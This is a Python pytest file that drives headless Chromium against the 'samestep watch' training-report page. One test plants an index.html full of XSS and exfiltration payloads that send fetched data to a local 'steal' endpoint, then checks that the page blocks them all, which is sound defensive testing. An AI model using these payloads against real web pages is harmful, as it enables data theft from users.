"""`samestep watch` in a real browser: the page follows a run that is trained beside it."""

from __future__ import annotations

import json
import re
import shutil
import signal
import subprocess
import sys
import time
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import pytest

from tests.servers import serve
from tests.waiting import until
from trainer.inspect.watch import Server
from trainer.monitoring.jsonl import JsonlTracker
from trainer.monitoring.report import Report

BROWSER, DRIVER = shutil.which("chromium"), shutil.which("chromedriver")
FLAGS = (
    *("--headless=new", "--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run"),
    *("--disable-background-networking", "--disable-component-update", "--disable-sync"),
)
WIDTHS = {"wide": 1280, "phone": 390}


@pytest.fixture
def browser(tmp_path: Path) -> Iterator[Any]:
    selenium = pytest.importorskip("selenium.webdriver", reason="needs selenium")
    if BROWSER is None or DRIVER is None:
        pytest.skip("needs Debian's packages chromium and chromium-driver")
    options = selenium.ChromeOptions()
    options.binary_location = BROWSER
    for flag in (*FLAGS, f"--user-data-dir={tmp_path / 'profile'}"):
        options.add_argument(flag)
    options.set_capability("goog:loggingPrefs", {"browser": "ALL"})
    from selenium.webdriver.chrome.service import Service

    driver = selenium.Chrome(options=options, service=Service(DRIVER))
    yield driver
    driver.quit()


@pytest.mark.long
def test_the_script_of_a_strangers_study_does_not_run(browser: Any, tmp_path: Path):
    asked: list[str] = []

    class Thief(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            asked.append(self.path)
            self.send_response(204)
            self.end_headers()

        def log_message(self, format: str, *args: object) -> None:
            pass

    with serve(ThreadingHTTPServer(("127.0.0.1", 0), Thief)) as thief:
        steal = f"http://127.0.0.1:{thief.server_port}/steal"
        study = tmp_path / "cool"
        study.mkdir()
        plan = {"question": "Which is best?", "slots": 1, "running": [], "jobs": []}
        (study / "study.json").write_text(json.dumps(plan))
        send = f"fetch('../../data').then(r => r.text()).then(d => location = '{steal}?' + d)"
        (study / "index.html").write_text(
            f"<h1>results</h1><script>document.title = 'ran'; {send}</script>"
            f'<img src="../../data" onerror="document.title = 1; location = \'{steal}\'">'
            f'<svg onload="location = \'{steal}\'"></svg><img src="{steal}?img">'
            f'<iframe src="../../"></iframe><iframe srcdoc="<script>{send}</script>"></iframe>'
            f'<meta http-equiv="refresh" content="0; url={steal}?refresh">'
            f'<link rel="stylesheet" href="{steal}?css"><style>@import "{steal}?import";'
            f"h1 {{ background: url({steal}?background) }}</style>"
            f'<form action="{steal}" method="get"><input name="a"></form>'
            "<a href=\"javascript:document.title='ran'\">more</a>"
        )
        with serve(Server(Report([str(tmp_path)]), 0)) as server:
            browser.get(f"{server.url}study/0/cool")
            until(lambda: "results" in browser.page_source, 60)
            browser.execute_cdp_cmd(
                "Runtime.evaluate", {"expression": "document.querySelector('a').click()"}
            )
            browser.execute_cdp_cmd(
                "Runtime.evaluate", {"expression": "document.forms[0].submit()"}
            )
            time.sleep(1)
            assert (asked, browser.title) == ([], "")
            refused = [str(row["message"]) for row in browser.get_log("browser")]
            assert any("Blocked script execution" in message for message in refused), refused


@pytest.mark.long
@pytest.mark.parametrize("width", WIDTHS.values(), ids=WIDTHS)
def test_the_page_follows_runs_and_stays_as_a_file(browser: Any, tmp_path: Path, width: int):
    first, second, page = tmp_path / "first", tmp_path / "second", tmp_path / "out" / "page.html"
    command = [sys.executable, "-m", "samestep.cli", "watch", str(first), str(second)]
    watching = subprocess.Popen(
        [*command, "--port", "0", "--output", str(page)], stdout=subprocess.PIPE, text=True
    )
    try:
        assert watching.stdout is not None
        lines = [watching.stdout.readline() for _ in range(4)]
        assert lines[0] == f"{first} does not exist yet; the page waits for it\n"
        (url,) = re.findall(r"http://127\.0\.0\.1:\d+/[\w-]+/", "".join(lines))
        metrics = {"width": width, "height": 900, "deviceScaleFactor": 1, "mobile": width < 500}
        browser.execute_cdp_cmd("Emulation.setDeviceMetricsOverride", metrics)
        browser.get(url)

        def text(selector: str) -> str:
            return str(
                browser.execute_script(
                    "return document.querySelector(arguments[0]).textContent", selector
                )
            )

        assert "waits for" in text("#status")
        row = {"train/tokens": 100, "time/forward": 1.0, "perf/seconds_per_step": 0.1}
        row |= {"perf/eta_seconds": 9000.0, "perf/eta_low_seconds": 8000.0}
        row |= {"perf/eta_high_seconds": 10000.0, "perf/tokens_per_second": 1000.0}
        trackers = []
        for run in (first, second):
            (run / "checkpoints").mkdir(parents=True)
            (run / "checkpoints" / ".owner").touch()
            config = {"output": str(run), "training": {"steps": 100}, "data": {"path": 300 * "x"}}
            (run / "config.yaml").write_text(json.dumps(config))
            trackers.append(JsonlTracker(run / "metrics.jsonl"))
            for step in (1, 2, 3):
                trackers[-1].log(step, {"train/loss": 7.0 - step, **row})
        until(lambda: "step 3 of 100" in text("#status") and "running" in text("#status"), 60)
        assert re.search(r"ends in 2:1\d:\d\d to 2:4\d:\d\d", text("#status"))
        curve = "return document.querySelector('#charts svg').innerHTML"
        before = browser.execute_script(curve)
        assert before.count("<path") == 2  # one for each run

        # A row changes the page in its place: no reload, and the scroll position stays.
        browser.execute_script("window.same = true; window.scrollTo(0, 300)")
        trackers[0].log(50, {"train/loss": 1.25, **row})
        trackers[1].alert("WARN", "A step was skipped", f"the loss is <b>nan</b> {300 * 'y'}")
        until(lambda: "step 50 of 100" in text("#status"), 60)
        until(lambda: "<b>nan</b>" in text("#faults"), 60)
        assert browser.execute_script(curve) != before
        assert browser.execute_script("return [window.same, window.scrollY]") == [True, 300]
        wide = browser.execute_script(
            "return [document.documentElement.scrollWidth, window.innerWidth]"
        )
        assert wide[1] == width
        assert wide[0] <= wide[1]
        assert browser.get_log("browser") == []

        watching.send_signal(signal.SIGINT)
        assert watching.wait() == 0
        assert watching.stdout.read().strip().endswith(str(page))
        until(lambda: text("#lost").startswith("no answer from samestep watch"), 60)
        browser.get_log("browser")  # Chromium itself logs that nobody answers
        # The file shows the same, without a server.
        browser.get(page.as_uri())
        assert "step 50 of 100" in text("#status")
        assert text("h1") == "Training report"
        assert browser.get_log("browser") == []
    finally:
        watching.kill()
        watching.wait()
